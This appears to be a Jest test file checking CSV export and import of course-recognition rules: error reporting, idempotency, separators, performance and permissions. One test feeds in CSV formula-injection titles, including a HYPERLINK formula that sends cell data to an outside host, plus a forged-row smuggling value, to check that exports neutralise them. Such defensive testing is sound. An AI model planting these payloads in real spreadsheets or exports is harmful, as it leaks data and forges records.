import { describe, expect, test } from '@jest/globals';
import { RuleEntity } from '../../../subgraphs/recognition/rule/rule.entity.ts';
import type { Caller } from '../../../subgraphs/shared/identity/caller.ts';
import { COURSE, makeRule } from '../fixtures.ts';
import { learner, neighbour, officer } from '../support.ts';
import { at, ETHICS, IMPORT, list, write } from './stage.ts';

/** Rules exported as a table and imported again. */
export function table(): void {
  describe('rules as a table', () => {
    const CSV =
      'query ($r: [_Any!]!) { _entities(representations: $r) { ... on Institution { recognitionRulesCsv } } }';
    const importing = (content: string, differing: object = {}, who?: Caller) =>
      write(IMPORT, { at: 'tuni.fi', content, ...differing }, who);
    const exported = async (who: Caller = officer) =>
      (await at.ask<any>(who, CSV, { r: [{ __typename: 'Institution', id: 'tuni.fi' }] }))._entities[0]
        .recognitionRulesCsv;
    const HEAD = 'sources,target_codes,target_titles,ects,min_grade,valid_from,valid_until,evidence';

    test('are exported and imported; mistakes in bad rows are reported with line and column', async () => {
      const table = [
        HEAD,
        `${COURSE},COMP.100,Basics of AI,3,C,2026-01-01,,Compared.`,
        `${COURSE}|${ETHICS},,,9,,2026-01-01,,Too many credits.`,
        `nothing,,,1,,2026-01-01,,No course.`,
        `${COURSE},,,1,,1.1.2026,,No day.`,
        `${ETHICS},A|B,Only one,2,,2026-01-01,,Titles.`,
        `${ETHICS},,,2,,2026-01-01,,"Good, too."`,
      ].join('\n');
      const report = { made: 2, changed: 0, unchanged: 0 };
      const problems = [
        { line: 3, column: 'ects' },
        { line: 4, column: 'sources' },
        { line: 5, column: 'valid_from' },
        { line: 6, column: 'target_titles' },
      ];
      expect(await importing(table, { dryRun: true })).toMatchObject({ dryRun: true, ...report, problems });
      expect(await list()).toMatchObject({ totalCount: 0 });
      expect(await importing(table)).toMatchObject({ dryRun: false, ...report, problems });
      expect(await importing(table)).toMatchObject({ made: 0, unchanged: 2 });
      const written = await exported();
      at.sent.length = 0;
      expect(await importing(written)).toEqual({ dryRun: false, made: 0, changed: 0, unchanged: 2, problems: [] });
      expect(await importing(written.replace(',"C",', ',"B",'))).toMatchObject({
        made: 0,
        changed: 1,
        unchanged: 1,
        problems: [],
      });
      expect(at.sent).toHaveLength(2);
      expect(await importing(written)).toMatchObject({ unchanged: 1, problems: [{ column: 'rule' }] });
    });

    test('are imported once by the same idempotency key, which gives the same report again', async () => {
      const content = `sources,valid_from,evidence\n${COURSE},2026-01-01,Compared.\nnothing,2026-01-01,No course.`;
      const key = { idempotencyKey: 'rules of 2026' };
      const first = await importing(content, key);
      expect(first).toMatchObject({ made: 1, problems: [{ line: 3, column: 'sources' }] });
      expect(await importing(content, key)).toEqual(first);
      expect(await importing(`${content}\n`, key)).toEqual({ code: 'IDEMPOTENCY_CONFLICT' });
      expect(await importing(content)).toMatchObject({ made: 0, unchanged: 1 });
    });

    test('are unchanged by export and import, whatever the title of a partner’s course', async () => {
      const forged = `dcu.ie:019a2f00-0000-7000-8000-00000000fff0`;
      const titles = [
        `Statistics;${forged};X1;Thesis;30;30;7;;CREDIT_TRANSFER;2026-01-01;;by custom;`,
        'Statistics;=HYPERLINK("http://example.org/?"&A2;"open")',
        '=1+1',
        `'=1+1, '-2\n@SUM(1)`,
        ' C, - and C++ "=quoted"',
      ];
      for (const [n, title] of titles.entries()) {
        const id = `dcu.ie:019a2f00-0000-7000-8000-00000000fc0${n}`;
        at.elsewhere.courses[id] = { id, title, ects: 3, eqfLevel: 6 };
        expect(
          await importing(`sources,valid_from,evidence\n${id},2026-01-01,"${title.replaceAll('"', '""')}"`),
        ).toMatchObject({ made: 1 });
      }
      const written = await exported();
      for (const parted of written.split(/[,;\n]/)) expect(parted).not.toMatch(/^[\s"]*[=+\-@]/);
      expect(await importing(written)).toMatchObject({ made: 0, changed: 0, unchanged: titles.length, problems: [] });
      expect(await exported()).toBe(written);
    });

    test('have one separator, that of the first line', async () => {
      const head = '\uFEFFtitle;sources;valid_from;evidence\r\n';
      const report = await importing(`${head}Ethics, in short;${ETHICS};2026-01-01;Good, too.\r\n`, { dryRun: true });
      expect(report).toMatchObject({ made: 1, problems: [] });
      expect(await importing(`sources,valid_from,evidence\n${ETHICS},2026-01-01,Good;bad`)).toMatchObject({ made: 1 });
      expect(await exported()).toContain('"Good;bad"');
    });

    test('are compared with thousands of rules while other requests are served', async () => {
      const { id: _, ...rule } = { ...(await makeRule(at)) };
      const thousands = Array.from({ length: 3000 }, (_, n) => ({
        ...rule,
        id: `tuni.fi:019a2f00-0000-7000-9000-${String(n).padStart(12, '0')}`,
        evidence: `${n} ${'e'.repeat(300)}`,
      }));
      await at.database.em.fork().insertMany(RuleEntity, thousands);
      const rows = Array.from({ length: 1000 }, (_, n) => `${COURSE},2026-01-01,new ${n}`);
      let [last, longest] = [performance.now(), 0];
      const beat = () => {
        longest = Math.max(longest, performance.now() - last);
        last = performance.now();
      };
      const timer = setInterval(beat, 5);
      const report = await importing(`sources,valid_from,evidence\n${rows.join('\n')}`, { dryRun: true });
      clearInterval(timer);
      beat();
      expect(report).toMatchObject({ made: 1000, problems: [] });
      expect(longest).toBeLessThan(2000);
    });

    test('cannot be imported by anybody else', async () => {
      for (const who of [neighbour, learner]) {
        expect(await importing(HEAD, {}, who)).toMatchObject({ code: 'NOT_ALLOWED' });
        expect(await exported(who)).toBeNull();
      }
      expect(await importing('a,b\n1,2')).toMatchObject({
        problems: [{ line: null, message: expect.stringContaining('sources') }],
      });
    });
  });
}
